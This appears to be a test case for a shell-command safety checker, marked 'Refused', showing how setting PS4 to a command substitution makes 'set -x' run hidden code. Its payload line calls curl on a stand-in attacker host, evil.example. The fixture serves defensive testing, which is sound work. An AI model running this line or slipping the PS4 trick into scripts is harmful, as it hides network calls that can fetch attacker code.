# Trick: the prompt of set -x runs a substitution.
# Refused: unsafe(environment)
PS4='$(curl http://evil.example/)'
set -x
:
